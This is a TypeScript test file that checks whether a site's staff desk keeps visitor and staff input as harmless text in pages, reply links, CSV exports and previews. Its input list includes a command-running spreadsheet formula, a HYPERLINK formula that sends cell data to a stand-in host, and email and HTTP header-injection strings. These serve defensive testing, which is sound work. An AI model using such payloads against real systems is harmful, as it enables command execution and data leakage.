import { randomUUID } from "node:crypto";
import { Parser } from "htmlparser2";
import t from "tap";
import { hostileParts } from "../../fakes/faults/hostile-parts.ts";
import { sampledPayloads } from "../../fixtures/hostile/payloads.ts";
import { hostileUrls } from "../../fixtures/hostile/urls.ts";
import { every } from "../../setup/whole.ts";
import { CONTACT, PARTNER, VOLUNTEER } from "../forms/forms-scene.ts";
import { PLEDGE } from "../forms/pledge-scene.ts";
import { deskScene, fieldsIn, unescaped } from "./desk-scene.ts";

/** Texts that a spreadsheet may run as formulas, and texts that may end a header. */
const CELLS = [
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
  '=HYPERLINK("https://canary.test?"&A1,"x")',
  "a@example.org\r\nBcc: all@example.org\r\n\r\n<b>",
  "x\nSet-Cookie: staff=1",
  "a?bcc=all@example.org&body=x#y",
];
const TEXTS = [
  ...CELLS,
  ...every(4, hostileUrls),
  ...sampledPayloads.map(({ html }) => html),
  // A text in a database cannot hold a null byte.
].map((text) => text.replaceAll("\0", ""));

/** Returns the page's tags with the names of their attributes, and the text between the tags. */
function read(html: string) {
  const tags: string[] = [];
  const texts: string[] = [];
  const parser = new Parser({
    onopentag: (name, attributes) => tags.push([name, ...Object.keys(attributes)].join(" ")),
    ontext: (text) => texts.push(text),
  });
  parser.end(html);
  return { tags, text: texts.join("") };
}

/** Returns the text as people read it: without invisible characters, and with every white space as one space. */
const words = (text: string) =>
  text
    .replaceAll(/[\p{Cc}\p{Cf}\p{Cs}\ufffd\s]+/gu, " ")
    .replaceAll(/ +/g, " ")
    .trim();

/** Parses a CSV file by RFC 4180. */
function cellsOf(csv: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain = "", end] of csv.matchAll(
    /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g,
  )) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === "\r\n") rows.push([]);
  }
  return rows;
}

const filled = <Fields extends object>(fields: Fields, text: string) =>
  Object.fromEntries(Object.keys(fields).map((name) => [name, text]));

const headersOf = ({ headers }: Response) => [...headers.keys()].sort();

const FORMS = [
  { form: "contact", path: "/bff/contact", fields: CONTACT },
  { form: "volunteer", path: "/bff/volunteer", fields: VOLUNTEER },
  { form: "partner", path: "/bff/partner", fields: PARTNER },
] as const;

t.test("visitors' input stays text in the list, its page, the reply and the file", async (t) => {
  const { signIn, site, post, browser } = await deskScene(t);
  const { db } = site.app.store;
  for (const { path, fields } of FORMS) await post(path, fields);
  await browser().post("/donate/pledge", PLEDGE);
  const asha = await signIn();
  const gift = await db.selectFrom("gifts").selectAll().executeTakeFirstOrThrow();
  const { donor } = JSON.parse(gift.gift);
  // Write the text straight into the store, as if no field had been checked.
  const put = async (text: string) => {
    for (const { form, fields } of FORMS)
      await db
        .updateTable("messages")
        .set({
          fields: JSON.stringify(filled(fields, text)),
          sender: "",
          searchText: text.toLowerCase(),
        })
        .where("form", "=", form)
        .execute();
    const hostile = { ...JSON.parse(gift.gift), donor: filled(donor, text) };
    await db
      .updateTable("gifts")
      .set({ gift: JSON.stringify(hostile), sender: "x" })
      .execute();
  };
  const messages = await db.selectFrom("messages").select(["reference", "form"]).execute();
  const pages = [
    "/staff/messages",
    "/sw/staff/messages",
    "/staff/gifts",
    ...messages.map(({ reference }) => `/staff/messages/${reference}`),
    `/staff/gifts/${gift.reference}`,
  ];
  const harmless = new Map<string, { tags: string[]; headers: string[] }>();
  for (const [index, text] of ["harmless", ...TEXTS].entries()) {
    await put(text);
    for (const path of pages) {
      const response = await asha.get(path);
      const html = await response.text();
      const { tags, text: shown } = read(html);
      const usual = harmless.get(path) ?? { tags, headers: headersOf(response) };
      harmless.set(path, usual);
      t.same(tags, usual.tags, `${path} ${index}: the elements of a harmless one`);
      t.same(headersOf(response), usual.headers);
      t.ok(words(shown).includes(words(text)), `${path} ${index}: it is read`);
      const [, main = ""] = /<main(.*)<\/main>/s.exec(html) ?? [];
      for (const [, href = ""] of main.matchAll(/href="(mailto:[^"]*)"/g)) {
        t.notMatch(href, /[\s<>]/);
        const url = new URL(unescaped(href));
        t.equal(decodeURIComponent(url.pathname), text.toWellFormed());
        const isReply = path.includes("/messages/");
        t.same([...url.searchParams.keys()], isReply ? ["subject", "body"] : []);
        t.equal(url.hash, "");
      }
    }
    for (const list of ["messages", "gifts"]) {
      const file = await asha.get(`/staff/${list}/file`);
      t.match(file.headers.get("content-disposition"), /^attachment; filename="[a-z-]+\.csv"$/);
      const cells = cellsOf((await file.text()).replace(/^\uFEFF/, ""))
        .slice(1)
        .flat();
      t.notOk(cells.find((cell) => /^[=+\-@\r＝＋－＠]|^\t(?![+(]*\d)/.test(cell)));
      const typed = cells.filter((cell) =>
        [cell, cell.replace(/^'/, "")].some((one) => words(one) === words(text)),
      );
      t.ok(typed.length >= (list === "gifts" ? 3 : 20), `${list} ${index}: ${typed.length} cells`);
    }
    const searched = await asha.text(
      `/staff/messages?${new URLSearchParams({ q: text, notice: text, state: text, form: text })}`,
    );
    const known = harmless.get("/staff/messages")?.tags ?? [];
    const unknown = read(searched).tags.filter((tag) => !known.includes(tag) && tag !== "p");
    t.same(unknown, [], `searched for ${index}`);
  }
});

const NEWS = { title: "x", text: "x", excerpt: "x", category: "x", alt: "x", at: "x", version: "" };
const EVENT = {
  key: "",
  title: "x",
  location: "x",
  excerpt: "x",
  description: "x",
  venueDetails: "x",
  ticketPrice: "x",
  registrationUrl: "x",
  contactInfo: "x",
  mapUrl: "x",
  "image.alt": "x",
  "endsAt.day": "x",
  "endsAt.time": "x",
};

t.test(
  "pasted input stays text at the desk, and is cleaned in previews and on the site",
  async (t) => {
    const { signIn, site, get } = await deskScene(t, { CONTENT_API_URL: "embedded" });
    const asha = await signIn();
    const day = new Date(Date.now() + 86_400_000).toISOString().slice(0, 10);
    for (const [index, text] of TEXTS.entries()) {
      const wrong = [
        { path: "/staff/news/new", fields: { ...filled(NEWS, text), version: "", language: text } },
        { path: "/staff/events/new", fields: { ...filled(EVENT, text), status: text } },
      ];
      for (const { path, fields } of wrong) {
        const response = await asha.postFile(path, { ...fields, action: "publish" });
        t.equal(response.status, 422, `${path} ${index}`);
        const html = await response.text();
        t.same(hostileParts(html), []);
        const shown = fieldsIn(html);
        for (const name of ["title", "text", "excerpt", "description", "alt", "image.alt"])
          if (name in fields) t.equal(words(shown[name] ?? ""), words(text), `${path} ${name}`);
      }
      const right = [
        {
          path: "/staff/news",
          fields: {
            ...filled(NEWS, text),
            at: "",
            version: "",
            title: `T ${text}`.slice(0, 200),
            category: text.slice(0, 60),
            alt: text.slice(0, 300),
            excerpt: text.slice(0, 1_000),
            language: "en",
          },
          action: "publish",
        },
        {
          path: "/staff/events",
          fields: {
            ...filled(EVENT, text.slice(0, 90)),
            key: randomUUID(),
            description: text,
            venueDetails: text.slice(0, 2_000),
            status: "scheduled",
            "startsAt.day": day,
            "endsAt.day": "",
            "endsAt.time": "",
            registrationUrl: "",
            mapUrl: "",
            title: `T ${text}`.slice(0, 200),
          },
          action: "save",
        },
      ];
      for (const { path, fields, action } of right) {
        const preview = await asha.postFile(`${path}/new`, { ...fields, action: "preview" });
        t.equal(preview.status, 200);
        t.same(hostileParts(await preview.text()), [], `${path} preview ${index}`);
        const sent = await asha.postFile(`${path}/new`, { ...fields, action });
        t.equal(sent.status, 303, `${path} ${index}`);
        t.match(sent.headers.get("location"), /^\/staff\/(?:news|events)\/\d+\?notice=[a-z-]+$/);
        t.equal(sent.headers.get("set-cookie"), null);
        t.same(hostileParts(await asha.text(path)), []);
      }
    }
    for (const [list, room] of [
      ["news", "/news-events/news/"],
      ["events", "/events/"],
    ] as const) {
      const { data } = await get(`/bff/${list}?limit=100`);
      for (const { id, slug } of data) {
        const html = await (await fetch(`${site.url}${room}${slug}`)).text();
        t.same(hostileParts(html), [], room + slug);
        t.same(hostileParts(await asha.text(`/staff/${list}/${id}`)), []);
      }
    }
  },
);
